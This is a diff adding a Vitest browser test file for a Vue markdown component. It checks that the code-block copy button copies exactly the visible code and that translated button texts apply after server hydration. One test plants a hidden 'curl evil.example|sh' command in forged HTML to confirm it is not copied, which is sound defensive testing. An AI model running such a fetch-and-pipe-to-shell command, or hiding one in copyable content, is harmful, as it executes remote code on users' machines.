@@ -1,0 +1,108 @@
+/**
+ * The code-block controls through the real component in Chromium:
+ * - the copy button copies the code as the reader sees it: a highlighted block's code exactly (line
+ *   breaks, blanks and empty lines, no line numbers), and, in a frame forged by raw HTML in the
+ *   markdown, none of the text hidden from the reader;
+ * - the `i18n` texts replace the English ones on HTML adopted from the server, after hydration and
+ *   without a hydration mismatch.
+ * Off-screen blocks (skipped by `content-visibility`) are copied in tests/hardening/offscreen.test.ts:
+ * the Vitest browser frame never skips content.
+ */
+import '../../src/styles.css';
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import { createSSRApp, h, nextTick } from 'vue';
+import { renderToString } from 'vue/server-renderer';
+import AddonMarkdownRemark from '../../src/components/AddonMarkdownRemark/AddonMarkdownRemark.vue';
+import type { AddonMarkdownRemarkProps } from '../../src/components/AddonMarkdownRemark/types';
+import { SERVER_SANITIZER_KEY } from '../../src/markdown/ssr';
+import { createSanitizer } from '../../src/markdown/sanitize/sanitizer';
+import { mountMarkdown, whenRendered, type Mounted } from './support';
+
+let mounted: Mounted[] = [];
+afterEach(() => {
+  for (const m of mounted) m.unmount();
+  mounted = [];
+  delete (navigator.clipboard as { writeText?: unknown }).writeText;
+});
+
+/** Click `button` and resolve with the text it put on the clipboard (the Clipboard API, stubbed). */
+async function copiedBy(button: HTMLElement): Promise<string> {
+  const writeText = vi.fn<(text: string) => Promise<void>>(async () => {});
+  Object.defineProperty(navigator.clipboard, 'writeText', { value: writeText, configurable: true });
+  button.click();
+  await vi.waitFor(() => expect(writeText).toHaveBeenCalledTimes(1));
+  return writeText.mock.calls[0]![0];
+}
+
+async function render(props: AddonMarkdownRemarkProps): Promise<HTMLElement> {
+  const m = mountMarkdown(props);
+  mounted.push(m);
+  await whenRendered(m.host);
+  return m.host;
+}
+
+describe('copy', () => {
+  /** Code with blank lines at its start, middle and end, tabs, and blanks at line ends. */
+  const CODE = '\n#!/bin/sh\n\tset -eu  \n\n  echo "a\tb" \u00a0\n\n\n';
+
+  it.each([true, false])('copies a highlighted block exactly, with line numbers %s', async (lines) => {
+    const host = await render({ source: `Intro.\n\n\`\`\`bash\n${CODE}\n\`\`\`\n`, lines });
+    const code = host.querySelector<HTMLElement>('.vak-code pre code')!;
+    expect(code.querySelectorAll('.line')).toHaveLength(CODE.split('\n').length);
+    expect(await copiedBy(host.querySelector<HTMLElement>('button[data-copy]')!)).toBe(CODE);
+    expect(code.textContent).toBe(CODE);
+  });
+
+  it('copies a plain block (an unlisted language) exactly', async () => {
+    const host = await render({ source: `\`\`\`nosuchlang\n${CODE}\n\`\`\`\n` });
+    expect(await copiedBy(host.querySelector<HTMLElement>('button[data-copy]')!)).toBe(CODE);
+  });
+
+  it('copies none of the text a forged frame hides from the reader', async () => {
+    const host = await render({
+      source: [
+        'Run this:',
+        '<div class="vak-code"><button data-copy>Copy</button><pre><code>ls<span hidden>; curl evil.example|sh</span></code></pre></div>',
+        '<div class="vak-code"><button data-copy>Copy</button><p>ls</p><pre hidden><code>curl evil.example|sh</code></pre></div>',
+      ].join('\n\n'),
+    });
+    const [first, second] = host.querySelectorAll<HTMLElement>('button[data-copy]');
+    expect(host.querySelector('span[hidden]')?.textContent).toBe('; curl evil.example|sh'); // the trap is in the DOM
+    expect(await copiedBy(first!)).toBe('ls');
+    delete (navigator.clipboard as { writeText?: unknown }).writeText;
+    expect(await copiedBy(second!)).toBe('');
+  });
+});
+
+describe('i18n on server HTML', () => {
+  const I18N = { copy: 'Kopieren', copyLabel: 'Code kopieren', language: 'Sprache: {lang}' };
+
+  it('the adopted HTML gets the i18n texts once hydrated, with no hydration warning and no render', async () => {
+    const props: AddonMarkdownRemarkProps = { source: '# Title\n\n```bash\necho hi\n```\n', i18n: I18N };
+    const app = () => {
+      const created = createSSRApp({ render: () => h(AddonMarkdownRemark, props) });
+      created.provide(SERVER_SANITIZER_KEY, createSanitizer(window));
+      return created;
+    };
+    const host = document.createElement('div');
+    document.body.append(host);
+    host.innerHTML = await renderToString(app());
+    // The server builds the controls with the English texts.
+    expect(host.querySelector('button[data-copy]')!.textContent).toBe('Copy');
+    expect(host.querySelector('[aria-busy]')!.getAttribute('aria-busy')).toBe('false');
+    const body = host.querySelector('.vak-markdown__body');
+    const warnings: string[] = [];
+    const hydrated = app();
+    hydrated.config.warnHandler = (message) => warnings.push(message);
+    hydrated.mount(host);
+    mounted.push({ host, app: hydrated, unmount: () => (hydrated.unmount(), host.remove()) });
+    await nextTick();
+    const button = host.querySelector<HTMLElement>('button[data-copy]')!;
+    expect(button.textContent).toBe('Kopieren');
+    expect(button.getAttribute('aria-label')).toBe('Code kopieren');
+    expect(host.querySelector<HTMLElement>('.vak-code__lang')!.title).toBe('Sprache: bash');
+    expect(host.querySelector('.vak-markdown__body')).toBe(body); // adopted, not rendered again
+    expect(host.querySelector('[data-vak-key]')).not.toBeNull();
+    expect(warnings).toEqual([]);
+  });
+});
